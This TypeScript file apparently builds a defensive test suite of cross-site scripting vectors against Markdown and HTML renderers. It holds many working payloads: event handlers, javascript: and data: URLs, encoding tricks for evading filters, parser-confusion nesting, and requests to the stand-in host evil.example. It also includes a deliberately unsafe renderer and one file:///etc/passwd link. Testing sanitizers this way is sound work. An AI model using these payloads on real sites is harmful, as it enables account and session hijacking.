import { parseFragment, serialize } from 'parse5';
import rehypeStringify from 'rehype-stringify';
import { remark } from 'remark';
import remarkGfm from 'remark-gfm';
import remarkRehype from 'remark-rehype';
import { vectorsByClass } from './vectors-by-class.ts';

/** One attempt to run a script or to reach another host; `fired(n)` and `evil.example` tell when it succeeds. */
export interface Vector {
  readonly name: string;
  readonly text: string;
}

const fire = 'fired(1)';
const remote = 'https://evil.example/';

/** Ways to name a protocol that runs code. */
const protocols = [
  `javascript:${fire}`,
  `JaVaScRiPt:${fire}`,
  `javascript://x%0a${fire}`,
  `vbscript:${fire}`,
  `data:text/html,<script>parent.${fire}</script>`,
  'data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${fire}'/>`,
  `feed:javascript:${fire}`,
  `view-source:javascript:${fire}`,
  `livescript:${fire}`,
  `blob:${fire}`,
  'file:///etc/passwd',
];

const code = (character: string) => character.charCodeAt(0);

/** Ways to hide a protocol from a filter and not from a browser. */
const encodings: Readonly<Record<string, (text: string) => string>> = {
  decimal: (text) => [...text].map((character) => `&#${code(character)};`).join(''),
  'padded decimal': (text) =>
    [...text].map((character) => `&#${String(code(character)).padStart(7, '0')};`).join(''),
  'decimal without end': (text) =>
    [...text].map((character) => `&#${String(code(character)).padStart(7, '0')}`).join(''),
  hexadecimal: (text) => [...text].map((character) => `&#x${code(character).toString(16)};`).join(''),
  'hexadecimal, large': (text) =>
    [...text].map((character) => `&#X${code(character).toString(16).toUpperCase()};`).join(''),
  'a tab inside': (text) => text.replace('s', 's\t'),
  'an encoded tab inside': (text) => text.replace('s', 's&#9;'),
  'a named tab inside': (text) => text.replace('s', 's&Tab;'),
  'a line end inside': (text) => text.replace('s', 's&#10;'),
  'a named line end inside': (text) => text.replace('s', 's&NewLine;'),
  'a carriage return inside': (text) => text.replace('s', 's&#13;'),
  'a named colon': (text) => text.replace(':', '&colon;'),
  'control characters before': (text) => `&#1;&#14;&#31; ${text}`,
  'a real control character before': (text) => `\u0001${text}`,
  'spaces before': (text) => `   ${text}`,
  'a no-break space before': (text) => `\u00a0${text}`,
  'a zero-width space before': (text) => `\u200b${text}`,
  'percent encoding': (text) => text.replace('j', '%6A').replace(':', '%3A'),
  'encoded twice': (text) => text.replace('j', '&amp;#106;'),
  'full width': (text) => text.replace('j', '\uff4a'),
  'a null inside': (text) => text.replace('s', 's&#0;'),
  'a soft hyphen inside': (text) => text.replace('s', 's&shy;'),
};

/** Elements that run something by themselves, with the attribute that does it. */
const handlers: readonly (readonly [element: string, attributes: string])[] = [
  ['img', 'src=x onerror'],
  ['img', 'src=/assets/images/a.png onload'],
  ['image', 'src=x onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['svg', 'onload'],
  ['iframe', 'onload'],
  ['iframe', 'src=/404.html onload'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onerror'],
  ['video', 'src=x onerror'],
  ['video', 'poster=x onloadstart'],
  ['audio', 'src=x onerror'],
  ['source', 'onerror'],
  ['input', 'autofocus onfocus'],
  ['input', 'type=image src=x onerror'],
  ['textarea', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'href=#x autofocus onfocus'],
  ['a', 'href=#x onclick'],
  ['p', 'contenteditable autofocus onfocus'],
  ['div', 'tabindex=0 autofocus onfocusin'],
  ['div', 'onmouseover'],
  ['div', 'onpointerenter'],
  ['div', 'oncopy'],
  ['div', 'onwheel'],
  ['div', 'style="animation:x 1s" onanimationstart'],
  ['div', 'style="transition:color 1s" ontransitionend'],
  ['td', 'onmouseover'],
  ['li', 'onclick'],
  ['details', 'open ontoggle'],
  ['dialog', 'open onclose'],
  ['div', 'popover onbeforetoggle'],
  ['marquee', 'onstart'],
  ['math', 'onclick'],
  ['style', 'onload'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['script', 'src=x onerror'],
  ['track', 'onerror'],
  ['form', 'onsubmit'],
  ['x-custom', 'onclick'],
  ['x', 'onpointerrawupdate'],
  ['isindex', 'onclick'],
  ['frameset', 'onload'],
  ['portal', 'src=x onload'],
  ['table', 'onmouseover'],
  ['ruby', 'onclick'],
  ['picture', 'onclick'],
];

/** Elements and attributes that hold an address. */
const addresses: readonly (readonly [before: string, after: string])[] = [
  ['<a href="', '">x</a>'],
  ["<a href='", "'>x</a>"],
  ['<a href="#" ping="', '">x</a>'],
  ['<area href="', '">'],
  ['<map name=m><area shape=default href="', '"></map>'],
  ['<iframe src="', '"></iframe>'],
  ['<iframe srcdoc="<script>parent.fired(1)</script>" src="', '"></iframe>'],
  ['<frameset><frame src="', '"></frameset>'],
  ['<object data="', '"></object>'],
  ['<object><param name=movie value="', '"></object>'],
  ['<embed src="', '">'],
  ['<applet code="', '"></applet>'],
  ['<form action="', '"><input type=submit></form>'],
  ['<button form=f formaction="', '">x</button>'],
  ['<form><input type=submit formaction="', '"></form>'],
  ['<img src="', '">'],
  ['<img srcset="', ' 1x">'],
  ['<img lowsrc="', '">'],
  ['<img dynsrc="', '">'],
  ['<img longdesc="', '">'],
  ['<input type=image src="', '">'],
  ['<video poster="', '"></video>'],
  ['<video><source src="', '"></video>'],
  ['<picture><source srcset="', '"><img></picture>'],
  ['<body background="', '">'],
  ['<table background="', '"><tr><td>x</table>'],
  ['<link rel=stylesheet href="', '">'],
  ['<link rel=import href="', '">'],
  ['<link rel=prefetch href="', '">'],
  ['<base href="', '//">'],
  ['<meta http-equiv=refresh content="0;url=', '">'],
  ['<meta http-equiv="set-cookie" content="', '">'],
  ['<script src="', '"></script>'],
  ['<blockquote cite="', '">x</blockquote>'],
  ['<q cite="', '">x</q>'],
  ['<svg><a xlink:href="', '"><text>x</text></a></svg>'],
  ['<svg><a href="', '"><rect width=9 height=9 /></a></svg>'],
  ['<svg><use href="', '"/></svg>'],
  ['<svg><image href="', '"/></svg>'],
  ['<svg><animate attributeName=href values="', '"/></svg>'],
  ['<svg><set attributeName=href to="', '"/></svg>'],
  ['<svg><script href="', '"/></svg>'],
  ['<math href="', '">x</math>'],
  ['<math><maction actiontype="statusline" xlink:href="', '">x</maction></math>'],
  ['<div style="background:url(', ')">x</div>'],
  ['<p style="behavior:url(', ')">x</p>'],
  ['<style>@import "', '";</style>'],
  ['<bgsound src="', '">'],
  ['<html manifest="', '">'],
];

/** Broken nesting, and what parsers of HTML do differently in other namespaces. */
const structures = [
  '<script>@</script>',
  '<SCRIPT>@</SCRIPT>',
  '<script\n>@</script\n>',
  '<script/x>@</script>',
  '<script type=module>@</script>',
  '<script x=">">@</script>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<<script>script>@<</script>/script>',
  '<script>@',
  '<scr\u0000ipt>@</scr\u0000ipt>',
  '<svg><script>@</script></svg>',
  '<svg><script>&#102;ired(1)</script></svg>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">@</svg:script>',
  '<math><script>@</script></math>',
  '<svg><style><img src=x onerror=@></style></svg>',
  '<svg><foreignObject><iframe onload=@></iframe></foreignObject></svg>',
  '<svg><desc><img src=x onerror=@></desc></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=@>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">',
  '<math><mtext><mglyph><style><img src=x onerror=@></style></mglyph></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=@></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>',
  '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>',
  '<template><script>@</script></template>',
  '<template shadowrootmode=open><img src=x onerror=@></template>',
  '<textarea></textarea><img src=x onerror=@></textarea>',
  '<title><img src=x onerror=@></title><img src=x onerror=@>',
  '<xmp><p title="</xmp><img src=x onerror=@>">',
  '<noembed><p title="</noembed><img src=x onerror=@>">',
  '<noframes><p title="</noframes><img src=x onerror=@>">',
  '<plaintext><img src=x onerror=@>',
  '<select><style></select><img src=x onerror=@></style>',
  '<select><option><img src=x onerror=@></select>',
  '<table><img src=x onerror=@></table>',
  '<table><td><script>@</script></td></table>',
  '<a href="x"><table><a href="javascript:@">y</a></table></a>',
  '<p><p onclick=@>x</p></p>',
  '<!--><img src=x onerror=@>-->',
  '<!--!><img src=x onerror=@>-->',
  '<!-- --!><img src=x onerror=@>',
  '<!--><!---><img src=x onerror=@>',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<svg><![CDATA[><img src=x onerror=@>]]></svg>',
  '<?xml version="1.0"?><img src=x onerror=@>',
  '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=@>">]>&x;',
  '</div></div></article></main><img src=x onerror=@>',
  '</body></html><script>@</script>',
  '<img src="x" alt="`><img src=x onerror=@>`">',
  '<img """><script>@</script>">',
  '<img src=`x`onerror=@>',
  '<img/src=x/onerror=@>',
  '<img\tsrc=x\tonerror=@>',
  '<img\u000csrc=x\u000conerror=@>',
  '<img src=x onerror\u000b=@>',
  '<img src=x onerror = "@">',
  '<img src=x ONERROR=@>',
  '<img src=x onerror=&#102;&#105;red(1)>',
  "<img src='x' onerror='@' '",
  '<img src=x onerror=@ ',
  '<img src=x title="a" onerror="@" title="b">',
  '<a title="\'" onclick="@" \'>x</a>',
  '<div id="x" class="y" data-view onclick=@>',
  '<a data-view href="javascript:@"><img src=x alt=x></a>',
  '<a class="group1" href="javascript:@"><img src=x alt=x></a>',
  '<button data-copy onclick=@>x</button>',
  '<div dangerouslySetInnerHTML="{}" onclick=@>x</div>',
  '<div style="width:expression(@)">x</div>',
  '<div style="-moz-binding:url(//evil.example/x)">x</div>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;https://evil.example/">',
  '<base href=https://evil.example/>',
  '<object data=https://evil.example/x.swf></object>',
  '<form id=search action=https://evil.example/><input name=q>',
  '<img name=body><img name=getElementById><form name=documentElement></form>',
  '<a id=fired></a><a id=fired name=x></a>',
  '<x is="y" onclick=@>z',
  '<div contenteditable oninput=@>x</div>',
  '<input type=hidden accesskey=x onclick=@>',
  '<keygen autofocus onfocus=@>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributeName=x>',
  '<svg><a><animate attributeName=href values=javascript:@ /><text x=20 y=20>x</text></a>',
  '<svg><image href=x onerror=@>',
  '<svg><title><img src=x onerror=@></title></svg>',
  '<math><mi xlink:href="data:x,<script>@</script>">x</mi></math>',
];

/** What only Markdown can say. */
const markdown = [
  '[x](<javascript:@>)',
  '[x](javascript&colon;@)',
  '[x](java\\script:@)',
  '[x]( javascript:@ )',
  '[x](\u0001javascript:@)',
  '[x](javascript:@ "title")',
  '[x]: javascript:@\n\n[x] [y][x] ![z][x]',
  '[x]: <java\nscript:@>\n\n[x]',
  '<javascript:@>',
  '<JAVASCRIPT:@>',
  '<data:text/html,<script>@</script>>',
  '![x](javascript:@)',
  '![x](data:image/svg+xml,<svg onload=@>)',
  '![x" onerror="@](x.png)',
  '![<img src=x onerror=@>](x.png)',
  '![x](x.png "\\"><img src=x onerror=@>")',
  '![x](x.png \'" onerror="@\')',
  '[x](y "\\"><script>@</script>")',
  '[x](y" onclick="@)',
  "[x](y'onclick=@)",
  '[x](https://a.example/" onmouseover="@)',
  'https://a.example/"onmouseover="@',
  'www.example.com"onmouseover=@',
  'javascript:@//x@example.com',
  '[![x](javascript:@)](javascript:@)',
  '[<img src=x onerror=@>](y)',
  '`<img src=x onerror=@>`',
  '```"><script>@</script>\nx\n```',
  '```html\n</code></pre><script>@</script>\n```',
  '```console\n$ </pre><img src=x onerror=@>\n```',
  '~~~ x"onmouseover="@\nx\n~~~',
  '    <img src=x onerror=@>\n    </pre><script>@</script>',
  '# <img src=x onerror=@>',
  '# x {#y" onclick="@}',
  '# x {onclick=@}',
  '# x {#constructor}\n\n# y {#__proto__}\n\n# z {#fired}',
  '[x](y){onclick=@ style=color:red target="x onclick=@"}',
  '[x](y){href=javascript:@}',
  '![x](y){onerror=@ src=javascript:@}',
  '![x](y){.a"onerror="@}',
  '*x*{title="><img src=x onerror=@>"}',
  '> [!NOTE] <img src=x onerror=@>\n> x',
  '> [!<img src=x onerror=@>]\n> x',
  '<img src=x onerror=@>\n: <script>@</script>',
  'x[^1]\n\n[^1]: <img src=x onerror=@>',
  'x[^"onclick="@]\n\n[^"onclick="@]: y',
  '| a | b |\n| --- | --- |\n| <script>@</script> | <img src=x onerror=@> |',
  '- [ ] <img src=x onerror=@>\n- [x"onclick=@] y',
  '**<img src=x onerror=@>**',
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;img src=x onerror=@&#62;',
  '\\<img src=x onerror=@\\>',
  '<a href="x\n\njavascript:@">x</a>',
  '<div\n\nonclick=@>x</div>',
  '<img src=x\nonerror=@\n>',
  '<p>\n\n<script>\n\n@\n\n</script>\n\n</p>',
  '<div>*x*\n<script>@</script>\n</div>',
  '<x<y>><img src=x onerror=@>',
  '<details><summary><img src=x onerror=@></summary>\n\n<script>@</script>\n\n</details>',
  '- <script>\n- @\n- </script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template languages are what is attacked
  '{{constructor.constructor("@")()}} {% raw %} ${@} #{@} <%= @ %>',
  '[x](//evil.example/x) ![x](//evil.example/x.png)',
  '![x](https://evil.example/x.png)',
  '![x](\\\\evil.example\\x.png)',
  '![x](/\\evil.example/x.png)',
  '[x](/\\evil.example/)',
];

/** Every vector for answers. */
export function answerVectors(): Vector[] {
  const fill = (text: string) => text.replaceAll('@', fire);
  return [
    ...handlers.map(([element, attributes]) => ({
      name: `${element} ${attributes}`,
      text: `<${element} ${attributes}=${fire}>x</${element}>`,
    })),
    ...addresses.flatMap(([before, after]) =>
      [`javascript:${fire}`, remote].map((address) => ({
        name: `${before}${address}`,
        text: before + address + after,
      })),
    ),
    ...protocols.flatMap((protocol) => [
      { name: `link to ${protocol}`, text: `<a href="${protocol}">x</a>` },
      { name: `Markdown link to ${protocol}`, text: `[x](<${protocol.replaceAll(/[<>]/g, '\\$&')}>)` },
      { name: `picture from ${protocol}`, text: `<img src="${protocol}" alt="x">` },
    ]),
    ...Object.entries(encodings).flatMap(([name, encode]) => [
      { name: `link with ${name}`, text: `<a href="${encode(`javascript:${fire}`)}">x</a>` },
      { name: `Markdown link with ${name}`, text: `[x](<${encode(`javascript:${fire}`)}>)` },
    ]),
    ...structures.map((text) => ({ name: text, text: fill(text) })),
    ...markdown.map((text) => ({ name: text, text: fill(text) })),
    ...Object.entries(vectorsByClass).flatMap(([name, written]) =>
      written.map((text) => ({ name: `${name}: ${text}`, text: fill(text) })),
    ),
  ];
}

/** A page with one vector, or with several that cannot touch each other. */
export interface AttackPage {
  readonly vectors: readonly { readonly number: number; readonly vector: Vector }[];
  /** Markdown: each vector under a heading of its own, where there are several. */
  readonly text: string;
}

/** The heading above a vector of a page with several. */
export const headingOf = (number: number) => `Vector ${number}`;

/**
 * Every vector for answers, a dozen on a page. Alone on one are those that reach beyond themselves: what they leave
 * open would swallow the next, or what they define would take its place.
 *
 * What a vector of many runs is `fired` with its number, and what it asks for lies at the other host's `/number-`; what is
 * encoded tells its page alone.
 */
export function attackPages(): AttackPage[] {
  const numbered = answerVectors().map((vector, number) => ({ number, vector }));
  const [alone, together] = [numbered.filter(reachesOut), numbered.filter((each) => !reachesOut(each))];
  const dozens = Array.from({ length: Math.ceil(together.length / 12) }, (_, index) =>
    together.slice(index * 12, index * 12 + 12),
  );
  return [
    ...alone.map((each) => ({ vectors: [each], text: each.vector.text })),
    ...dozens.map((vectors) => ({
      vectors,
      text: vectors
        .map(({ number, vector }) => `## ${headingOf(number)}\n\n${named(vector.text, number)}\n\n`)
        .join(''),
    })),
  ];
}

function named(text: string, number: number): string {
  return text.replaceAll(fire, `fired(${number})`).replaceAll('//evil.example/', `//evil.example/${number}-`);
}

function reachesOut({ vector: { text } }: { readonly vector: Vector }): boolean {
  if (text.includes('\0')) return true;
  if (/\]:|\[\^|^\[\S*\]$/m.test(text)) return true;
  const html = careless.processSync(`${text}\n\n## After\n`).toString();
  const { childNodes } = parseFragment(html);
  const last = childNodes.filter((node) => 'tagName' in node).at(-1);
  return !(last && 'tagName' in last && last.tagName === 'h2' && serialize(last) === 'After');
}

/** Markdown to HTML as one writes it who thinks of no harm. */
export const careless = remark()
  .use(remarkGfm)
  .use(remarkRehype, { allowDangerousHtml: true })
  .use(rehypeStringify, { allowDangerousHtml: true })
  .freeze();

/** Texts for every place that is a text and no Markdown: titles, labels, settings, addresses. */
export const texts: readonly string[] = [
  `<img src=x onerror=${fire}>`,
  `"><script>${fire}</script>`,
  `'><svg/onload=${fire}>`,
  `</title></style></script></textarea><script>${fire}</script>`,
  `" onmouseover="${fire}" autofocus onfocus="${fire}" x="`,
  `' onmouseover='${fire}' x='`,
  `javascript:${fire}`,
  `&lt;img src=x onerror=${fire}&gt;`,
  `&#60;script&#62;${fire}&#60;/script&#62;`,
  `]]><script>${fire}</script><!--`,
  `](javascript:${fire}) ![x](javascript:${fire})`,
  `\\"); ${fire}; //`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
  '{{7*7}}${fired(1)}<%= fired(1) %>',
  `\u2028${fire}\u2029`,
  `+ADw-script+AD4-${fire}+ADw-/script+AD4-`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${fire}>`,
  '__proto__ constructor',
];
